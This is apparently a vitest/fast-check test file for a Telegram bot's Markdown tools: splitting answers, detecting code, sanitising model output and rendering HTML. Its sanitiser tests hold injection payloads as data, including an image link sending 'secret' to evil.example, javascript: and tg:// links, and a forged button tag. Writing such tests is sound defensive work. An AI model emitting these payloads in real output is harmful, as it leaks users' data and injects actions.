import * as fc from "fast-check";
import { describe, expect, test } from "vitest";
import { lines, segments } from "./markdown-code.ts";
import { TOP, readLine } from "./markdown-places.ts";
import type { Fence, Place } from "./markdown-places.ts";
import { safeMarkdown } from "./safe-markdown.ts";
import { splitMarkdown } from "./split-markdown.ts";
import { telegramHtml } from "./telegram-html.ts";

function openFence(text: string): Fence | null {
  let place: Place = TOP;
  for (const line of lines(text)) place = readLine(place, line).after;
  return place.fence;
}

/** Answers as models write them, and worse: prose, code, very long lines, odd fences, other scripts. */
const word = fc.stringMatching(/^[a-zA-Zа-яё0-9]{1,12}$/);
const prose = fc.array(word, { minLength: 1, maxLength: 60 }).map((words) => words.join(" "));
const code = fc
  .tuple(fc.constantFrom("```", "````", "~~~", "  ```"), fc.constantFrom("", "python", "a long name with words"), prose)
  .map(([mark, info, body]) => `${mark}${info}\n${body.replaceAll(" ", "\n")}\n${mark.trim()}`);
const odd = fc.constantFrom("```", "~~~~", "`", "**", "\n\n", "🦊🦊🦊", "x".repeat(700), `\`\`\`${"y".repeat(500)}`);
const answer = fc
  .array(fc.oneof({ weight: 3, arbitrary: prose }, code, odd), { maxLength: 20 })
  .map((blocks) => blocks.join("\n\n"));

const words = (markdown: string) => markdown.match(/w\d+/g) ?? [];
const bare = (some: string) => some.replace(/\s/g, "");

describe("splitting an answer", () => {
  test("keeps every part within the limit and whole by itself", () => {
    fc.assert(
      fc.property(answer, fc.integer({ min: 200, max: 900 }), (text, max) => {
        for (const part of splitMarkdown(text, max)) {
          expect(part.length).toBeLessThanOrEqual(max);
          expect(part.trim()).not.toBe("");
          expect(() => encodeURIComponent(part)).not.toThrow();
          expect(openFence(part)).toBeNull();
        }
      }),
      { numRuns: 300 },
    );
  });

  test("loses and doubles no word", () => {
    const numbered = fc.array(fc.tuple(fc.nat(80), fc.boolean()), { minLength: 1, maxLength: 25 }).map((blocks) => {
      let number = 0;
      return blocks
        .map(([size, isCode]) => {
          const body = Array.from({ length: size + 1 }, () => `w${number++}`).join(isCode ? "\n" : " ");
          return isCode ? `\`\`\`js\n${body}\n\`\`\`` : body;
        })
        .join("\n\n");
    });
    fc.assert(
      fc.property(numbered, fc.integer({ min: 200, max: 600 }), (text, max) => {
        expect(splitMarkdown(text, max).flatMap(words)).toEqual(words(text));
      }),
      { numRuns: 200 },
    );
  });

  test("loses no character of a text without code", () => {
    fc.assert(
      fc.property(fc.string({ unit: "grapheme", maxLength: 2_000 }), fc.integer({ min: 200, max: 500 }), (raw, max) => {
        const text = raw.replace(/[`~]/g, "'");
        expect(bare(splitMarkdown(text, max).join(""))).toBe(bare(text));
      }),
    );
  });

  test("cuts between paragraphs where it can, and opens a cut code block again in its language", () => {
    const first = "a ".repeat(70).trim();
    const second = "b ".repeat(70).trim();
    expect(splitMarkdown(`${first}\n\n${second}`, 200)).toEqual([first, second]);
    const body = Array.from({ length: 30 }, (_, index) => `print(${index})`).join("\n");
    const parts = splitMarkdown(`\`\`\`python\n${body}\n\`\`\``, 200);
    expect(parts.length).toBeGreaterThan(1);
    for (const part of parts) expect(part).toMatch(/^```python\n[\s\S]*\n```$/);
  });

  test("cannot be asked for parts too small to hold a code block", () => {
    expect(() => splitMarkdown("text", 100)).toThrow(RangeError);
  });
});

describe("code in Markdown", () => {
  test("is found without losing a character", () => {
    fc.assert(
      fc.property(fc.oneof(answer, fc.string()), (text) => {
        expect(
          segments(text)
            .map((segment) => segment.text)
            .join(""),
        ).toBe(text);
      }),
    );
  });

  test("is told from prose", () => {
    expect(segments("a `b` c\n```js\nd\n```\ne")).toEqual([
      { kind: "prose", text: "a " },
      { kind: "span", text: "`b`" },
      { kind: "prose", text: " c\n" },
      { kind: "block", text: "```js\nd\n```\n", code: "d", language: "js", before: "" },
      { kind: "prose", text: "e" },
    ]);
    expect(segments("``a ` b`` and ` alone")).toEqual([
      { kind: "span", text: "``a ` b``" },
      { kind: "prose", text: " and ` alone" },
    ]);
  });

  test("of hostile length is read in linear time", () => {
    const hostile = Array.from({ length: 30_000 }, (_, index) => "`".repeat((index % 7) + 1)).join(" ");
    expect(
      segments(hostile)
        .map(({ text }) => text)
        .join(""),
    ).toBe(hostile);
  });
});

describe("a model's Markdown made safe", () => {
  test("cannot make buttons, pictures, maps or links into Telegram", () => {
    expect(safeMarkdown('<tg-button type="callback_data" data="stop:x">Pay</tg-button>')).not.toContain("<");
    expect(safeMarkdown("![](https://evil.example/?q=secret)")).toBe("&#33;[](https://evil.example/?q=secret)");
    expect(safeMarkdown("[pay](tg://resolve?domain=x)")).toBe("[pay]&#40;tg://resolve?domain=x)");
    expect(safeMarkdown("[pay](javascript:alert(1))")).toBe("[pay]&#40;javascript:alert(1))");
    expect(safeMarkdown("[pay]: tg://user?id=1")).toBe("[pay]&#58; tg://user?id=1");
    expect(safeMarkdown("\\![x](<tg://user?id=1>)")).toBe("\\&#33;[x]&#40;&lt;tg://user?id=1>)");
  });

  test("keeps what is harmless: web links, code, comparisons, tables, formulas", () => {
    const harmless =
      "a < b, [docs](https://example.com), `a<5`\n\n```c\nfor (i = 0; i < 5; i++)\n```\n| a | b |\n|---|---|\n$x^2$";
    expect(safeMarkdown(harmless)).toBe(harmless);
    expect(safeMarkdown("see <https://example.com/a>")).toBe("see https://example.com/a");
  });

  test("shows code that holds tags as code, with nothing left in it that acts", () => {
    expect(safeMarkdown("use `<b>`")).toBe("use <code>&#60;b&#62;</code>");
    expect(safeMarkdown("```html\n<img src=x>\n```\nafter")).toBe(
      '<pre><code class="language-html">&lt;img src=x&gt;</code></pre>\nafter',
    );
    expect(safeMarkdown("[a\n```\n](tg://x)")).toBe("[a\n<pre>&#93;(tg://x)</pre>");
  });

  test("never leaves a tag, a picture or a foreign link anywhere, whatever is written", () => {
    const pieces = fc.constantFrom(
      "<",
      "b",
      "!",
      "[",
      "]",
      "(",
      ")",
      ":",
      "/",
      ">",
      "tg://",
      "https://x.y",
      " ",
      "\n",
      "\\",
      "`",
      "```",
      "- ",
      "> ",
      "|",
    );
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 40 }), (parts) => {
        const safe = safeMarkdown(parts.join(""));
        // Our own tags leave a blank: what stood on both sides of one does not meet.
        expect(safe.replace(/<\/?(?:pre|code)(?: class="language-[^"<>]*")?>/g, " ")).not.toMatch(/<[a-z/!?]/i);
        expect(safe).not.toMatch(/!\[/);
        expect(safe).not.toMatch(/\]\((?!https:)/);
      }),
      { numRuns: 3_000 },
    );
  });
});

describe("the HTML fallback", () => {
  test("renders what people read most", () => {
    expect(telegramHtml("# Title\n**b** *i* ~~s~~ `c<d`\n- one\n[x](https://e.com?a=1&b=2)")).toBe(
      '<b>Title</b>\n<b>b</b> <i>i</i> <s>s</s> <code>c&lt;d</code>\n• one\n<a href="https://e.com?a=1&amp;b=2">x</a>',
    );
    expect(telegramHtml("```js\na < b\n```\nafter")).toBe(
      '<pre><code class="language-js">a &lt; b</code></pre>\nafter',
    );
  });

  test("leaves stars of arithmetic and names alone", () => {
    expect(telegramHtml("2 * 3 * 4, snake_case_name")).toBe("2 * 3 * 4, snake_case_name");
  });

  test("always nests its tags and never lets the text make one", () => {
    const pieces = fc.constantFrom(
      "**",
      "*",
      "_",
      "~~",
      "`",
      "[a](https://b.c)",
      "<b>",
      "&",
      "x",
      " ",
      "\n",
      "# ",
      "- ",
      "```",
    );
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 30 }), (parts) => {
        // Taking out innermost pairs again and again leaves nothing of tags that are nested as they should be.
        let left = (telegramHtml(parts.join("")).match(/<[^>]*>/g) ?? []).join("").replace(/ [^>]*/g, "");
        for (let before = ""; before !== left;) {
          before = left;
          left = left.replace(/<([a-z]+)><\/\1>/g, "");
        }
        expect(left).toBe("");
      }),
      { numRuns: 2_000 },
    );
  });
});
